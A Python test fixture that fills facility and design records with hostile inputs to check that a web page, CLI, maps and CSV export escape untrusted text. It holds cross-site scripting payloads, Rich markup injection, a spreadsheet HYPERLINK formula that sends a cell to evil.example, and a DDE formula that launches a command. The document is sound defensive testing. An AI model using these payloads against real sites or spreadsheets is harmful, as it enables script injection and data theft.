"""Records written by an attacker: markup, scripts, Rich markup, formulas and odd URLs in
every text field a page, a script, the CLI or a CSV export shows. Placed near Lyon beside the
matching scenario of test_match, so the match page and the maps show them too.

Every payload sets a `window.__xss` flag if it ever runs as script.
"""

from __future__ import annotations

from dataclasses import replace

from refaire.model import Capability, Design, Dimensions, Equipment, Facility, Link, Part
from refaire.store import open_store
from refaire.store.designs import get_design, save_designs
from refaire.store.facilities import get_facility, save_facilities
from test_match import DESIGNS, FACILITIES

EVIL_NAME = '<img src=x onerror="window.__xss=1">Evil <script>window.__xss=2</script>[/b]'
EVIL_URL = "javascript:window.__xss=3"
EVIL_EMAIL = 'x@example.org" onmouseover="window.__xss=4'
DESIGN_NAME = "x [/b] [bold red]<script>window.__xss=5</script>"
DESIGN_REPO = "javascript:alert(document.domain)"
DATA_TARGET = "data:text/html,<script>window.__xss=6</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GOOD_REPO = "https://github.com/example/lamp"

EVIL_FACILITY = Facility(
    key="t:evil",
    name=EVIL_NAME,
    latitude=45.7700,
    longitude=4.8400,
    country="FR",
    city="[red]Lyon[/red] <b>bold</b>",
    url=EVIL_URL,
    email=EVIL_EMAIL,
    description="@SUM(1+1)*cmd|' /C calc'!A0",
    equipment=[
        Equipment(
            equipment_type="<i>Laser</i> [bold]cutter[/bold]",
            processes=[Capability("laser-cutting")],
            materials=[Capability("plywood")],
            bed_size_mm=(600, 400),
        )
    ],
)

EVIL_DESIGN = Design(
    "t:evil-design",
    DESIGN_NAME,
    "test",
    repo=DESIGN_REPO,
    function=FORMULA,
    keywords=["-2+3", "[link=javascript:x]k[/link]"],
    licensor="+cmd",
    links=[Link("fork-of", DATA_TARGET), Link("variant-of", "//evil.example/x")],
    parts=[
        Part(
            "<b>Shade</b> [/]",
            processes=["laser-cutting"],
            materials=["plywood"],
            dimensions=Dimensions(300, 200, 3),
        )
    ],
)

GOOD_DESIGN = Design("t:good", "Good lamp", "test", repo=GOOD_REPO)


def hostile_store(path: str):
    """A SQLite store with the Lyon scenario plus the hostile records; returns
    (store, evil facility id, evil design id)."""
    store = open_store(path)
    save_facilities(store, [*FACILITIES, EVIL_FACILITY])
    save_designs(store, [*DESIGNS, EVIL_DESIGN, replace(GOOD_DESIGN)])
    facility_id = get_facility(store, "t:evil")[0]
    design_id = get_design(store, "t:evil-design")[0]
    return store, facility_id, design_id
